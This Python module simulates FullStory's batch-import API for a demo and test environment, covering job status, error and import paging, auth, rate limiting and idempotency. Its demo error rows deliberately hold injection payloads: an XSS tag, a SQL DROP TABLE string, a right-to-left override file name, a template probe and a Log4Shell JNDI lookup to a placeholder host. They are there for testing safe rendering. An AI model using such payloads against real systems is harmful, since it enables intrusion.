"""FullStory batch imports as the simulator speaks them (VENDORS.md §3, the seed's envelopes).

Jobs are a pure function of the simulator clock: PROCESSING for a while, then COMPLETED,
or FAILED with some rows imported (partial) or none. `…/errors` and `…/imports` answer
202 while a job processes. The seed's job-details example is served byte for byte.
"""

from __future__ import annotations

import hashlib
import json
import threading
import time
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from typing import Any
from urllib.parse import unquote

from ..seeds import SEED_DIR
from ..simulator.core import SimRequest, SimResponse, Simulator, json_response

SEED_FILE = "fullstory-batch-import-status.txt"
SEED_JOB_ID = "abd123="
ERRORS_PAGE = 100
BATCH_LIMIT = 50_000
FAIL_MARKER = "fail"  # a request whose JSON contains it is one of the job's failed rows
ENVELOPES = {
    400: ("uid is required", "required_field"),
    401: ("access is unauthorized", "unauthorized"),
    403: ("insufficient permissions", "forbidden"),
    404: ("Requested resource does not exist", "resource_not_found"),
    429: ("Too many requests. Client has exceeded the rate limit for this endpoint.", "too_many_requests"),
    500: ("Server error was encountered", "server_error"),
}
# (message, the rejected request) cycled over a job's failed rows.
PLAN_ERROR = ("property 'plan' must be a string", {"properties": {"plan": 7}})


def seed_job_text() -> str:
    """The seed's job-details example, byte for byte as the document shows it."""
    text = (SEED_DIR / SEED_FILE).read_text()
    start = text.index('{\n"imports"')
    _, end = json.JSONDecoder().raw_decode(text[start:])
    return text[start : start + end]


def envelope(status: int, **headers: str) -> SimResponse:
    """The seed's `{"message", "code"}` for a status, word for word."""
    message, code = ENVELOPES[status]
    return json_response({"message": message, "code": code}, status, **headers)


def _invalid(message: str) -> SimResponse:
    return json_response({"message": message, "code": "invalid_argument"}, 400)


def _iso(when: datetime) -> str:
    return when.strftime("%Y-%m-%dT%H:%M:%S.") + f"{when.microsecond // 1000:03d}Z"


def _page(req: SimRequest, rows: list[dict[str, Any]]) -> SimResponse:
    """`{results, total_records: "N" (a string), next_page_token?}`; tokens are offsets."""
    token = req.arg("page_token", "0") or "0"
    if not token.isdigit():
        return _invalid("page_token is not valid")
    start = int(token)
    body: dict[str, Any] = {"results": rows[start : start + ERRORS_PAGE], "total_records": str(len(rows))}
    if start + ERRORS_PAGE < len(rows):
        body["next_page_token"] = str(start + ERRORS_PAGE)
    return json_response(body)


@dataclass
class SimJob:
    job_id: str
    kind: str  # events | users
    created_at: datetime
    rows: int
    failed_rows: int = 0
    process_seconds: float = 60
    cycle_seconds: float | None = None  # the demo's jobs start over, so the demo stays alive
    errors: tuple[tuple[str, dict[str, Any]], ...] = (PLAN_ERROR,)

    def _created(self, now: datetime) -> datetime:
        if not self.cycle_seconds or now < self.created_at:
            return self.created_at
        laps = int((now - self.created_at).total_seconds() // self.cycle_seconds)
        return self.created_at + timedelta(seconds=laps * self.cycle_seconds)

    def processing(self, now: datetime) -> bool:
        return now < self._created(now) + timedelta(seconds=self.process_seconds)

    def body(self, now: datetime) -> dict[str, Any]:
        created = self._created(now)
        job: dict[str, Any] = {"id": self.job_id, "created": _iso(created)}
        if self.processing(now):
            job["status"] = "PROCESSING"
            return {"imports": 0, "errors": 0, "job": job}
        job["status"] = "FAILED" if self.failed_rows else "COMPLETED"
        job["finished"] = _iso(created + timedelta(seconds=self.process_seconds))
        return {"imports": self.rows - self.failed_rows, "errors": self.failed_rows, "job": job}

    def error_rows(self) -> list[dict[str, Any]]:
        key = "user" if self.kind == "users" else "event"
        rows = []
        for i in range(self.failed_rows):
            message, request = self.errors[i % len(self.errors)]
            rows.append({"message": message, "code": "invalid_argument", key: {"uid": f"user-{i + 1}", **request}})
        return rows

    def import_rows(self) -> list[dict[str, Any]]:
        return [{"uid": f"user-{i + 1}"} for i in range(self.rows - self.failed_rows)]


def seed_job() -> SimJob:
    """The job behind the seed example (42 imported, 2 failed), for its errors and imports."""
    return SimJob(SEED_JOB_ID, "events", datetime(2019, 4, 18, 14, 36, 11, tzinfo=UTC), 44, 2, 3600)


@dataclass
class FullStoryWorld:
    keys: set[str] = field(default_factory=set)
    # Standard keys: enough to create and read jobs, not to read user data [F4].
    standard_keys: set[str] = field(default_factory=set)
    jobs: dict[str, SimJob] = field(default_factory=dict)
    rate_limit: int | None = None  # requests per `rate_window` s per key, then 429
    rate_window: float = 10.0
    retry_after: int = 10
    process_seconds: float = 45  # for jobs created through POST

    def __post_init__(self) -> None:
        self._lock = threading.Lock()
        self._hits: dict[str, list[float]] = {}
        self._idempotent: dict[tuple[str, str], tuple[str, SimResponse]] = {}
        self._seq = 0

    def install(self, sim: Simulator) -> None:
        self.sim = sim
        for prefix in ("/v2", "/v2beta"):
            for kind in ("events", "users"):
                base = f"{prefix}/{kind}/batch"
                sim.add_route("POST", base, lambda req, k=kind: self.create(req, k))
                sim.add_route("GET", base + r"/(?P<job_id>[^/]+)", self.get_job)
                sim.add_route("GET", base + r"/(?P<job_id>[^/]+)/errors", self.errors)
                sim.add_route(
                    "GET",
                    base + r"/(?P<job_id>[^/]+)/imports",
                    lambda req, job_id, k=kind: self.imports(req, job_id, k),
                )

    def _guard(self, req: SimRequest) -> SimResponse | None:
        header = req.headers.get("authorization", "")
        key = header[len("Basic ") :] if header.startswith("Basic ") else ""
        if key not in self.keys | self.standard_keys:
            return envelope(401)
        if self.rate_limit is not None:
            with self._lock:
                now = time.monotonic()
                hits = [t for t in self._hits.get(key, []) if now - t < self.rate_window] + [now]
                self._hits[key] = hits
                if len(hits) > self.rate_limit:
                    return envelope(429, **{"Retry-After": str(self.retry_after)})
        return None

    def _job(self, job_id: str) -> SimJob | None:
        job_id = unquote(job_id)  # ids are base64-like ("abd123="): clients send %3D
        return seed_job() if job_id == SEED_JOB_ID else self.jobs.get(job_id)

    def get_job(self, req: SimRequest, job_id: str) -> SimResponse:
        if denied := self._guard(req):
            return denied
        if unquote(job_id) == SEED_JOB_ID:
            return SimResponse(200, seed_job_text(), {"Content-Type": "application/json"})
        job = self._job(job_id)
        return json_response(job.body(self.sim.clock.now())) if job else envelope(404)

    def errors(self, req: SimRequest, job_id: str) -> SimResponse:
        if denied := self._guard(req):
            return denied
        if (job := self._job(job_id)) is None:
            return envelope(404)
        if job.processing(self.sim.clock.now()):
            return SimResponse(202, b"")
        return _page(req, job.error_rows())

    def imports(self, req: SimRequest, job_id: str, kind: str) -> SimResponse:
        if denied := self._guard(req):
            return denied
        header = req.headers.get("authorization", "")
        if kind == "users" and header[len("Basic ") :] in self.standard_keys - self.keys:
            return envelope(403)  # imported users are user data: Architect or Admin only
        if (job := self._job(job_id)) is None:
            return envelope(404)
        if job.processing(self.sim.clock.now()):
            return SimResponse(202, b"")
        return _page(req, job.import_rows())

    def create(self, req: SimRequest, kind: str) -> SimResponse:
        if denied := self._guard(req):
            return denied
        try:
            body = req.json()
        except ValueError:
            return _invalid("the request body is not valid JSON")
        requests = body.get("requests") if isinstance(body, dict) else None
        if not isinstance(requests, list) or not 1 <= len(requests) <= BATCH_LIMIT:
            return _invalid(f"requests must hold 1 to {BATCH_LIMIT} objects")
        if kind == "users" and any(not (isinstance(r, dict) and (r.get("uid") or r.get("id"))) for r in requests):
            return envelope(400)
        key = req.headers.get("idempotency-key", "")
        digest = hashlib.sha256(json.dumps(body, sort_keys=True).encode()).hexdigest()
        now = self.sim.clock.now()
        with self._lock:  # check, create and remember in one step: concurrent retries see one job
            if key and (kind, key) in self._idempotent:
                seen, answer = self._idempotent[(kind, key)]
                if seen != digest:
                    return json_response(
                        {"message": "Idempotency-Key was already used with a different request", "code": "conflict"},
                        409,
                    )
                return answer
            self._seq += 1
            job_id = f"fs-{kind[0]}-{self._seq:05d}"
            failed = sum(1 for r in requests if FAIL_MARKER in json.dumps(r))
            self.jobs[job_id] = SimJob(job_id, kind, now, len(requests), failed, self.process_seconds)
            answer = json_response({"job": {"id": job_id, "status": "PROCESSING", "created": _iso(now)}})
            if key:
                self._idempotent[(kind, key)] = (digest, answer)
        return answer


DEMO_KEY = "demo-fullstory-key"
# What FullStory echoes back is whatever customers sent: markup, quotes, bidi controls.
DEMO_ROW_ERRORS: tuple[tuple[str, dict[str, Any]], ...] = (
    PLAN_ERROR,
    (
        'property name "<img src=x onerror=alert(1)>" is not valid: use letters, digits and underscores',
        {"properties": {"<img src=x onerror=alert(1)>": "x"}},
    ),
    (
        "email must be at most 128 characters",
        {"email": "a" * 140 + "@example.com"},
    ),
    (
        "display_name must not contain control characters (U+202E at position 30)",
        {"display_name": "Robert'); DROP TABLE users;-- \u202egnp.exe"},
    ),
    (
        "property 'notes_str' value is 8,300 bytes; at most 8,192 are allowed",
        {"properties": {"notes_str": "{{7*7}} ${jndi:ldap://x.example/a} " + "x" * 8265}},
    ),
)


def install_demo(sim: Simulator, origin: datetime) -> FullStoryWorld:
    """FullStory's part of `make run`'s demo: live, completed, partial and expired jobs."""
    world = FullStoryWorld(keys={DEMO_KEY})
    world.jobs.update(
        {
            # finishes ~2.5 min in, then starts over every 4 min: there is always a live one
            "fs-demo-live": SimJob("fs-demo-live", "events", origin, 40_000, process_seconds=150, cycle_seconds=240),
            "fs-demo-done": SimJob("fs-demo-done", "events", origin - timedelta(hours=3), 12_000, process_seconds=90),
            "fs-demo-partial": SimJob(
                "fs-demo-partial", "users", origin - timedelta(hours=1), 950, 7, 120, errors=DEMO_ROW_ERRORS
            ),
        }
    )
    # "fs-demo-expired" is tracked by the demo config but unknown here: a 404, i.e. expired.
    world.install(sim)
    return world
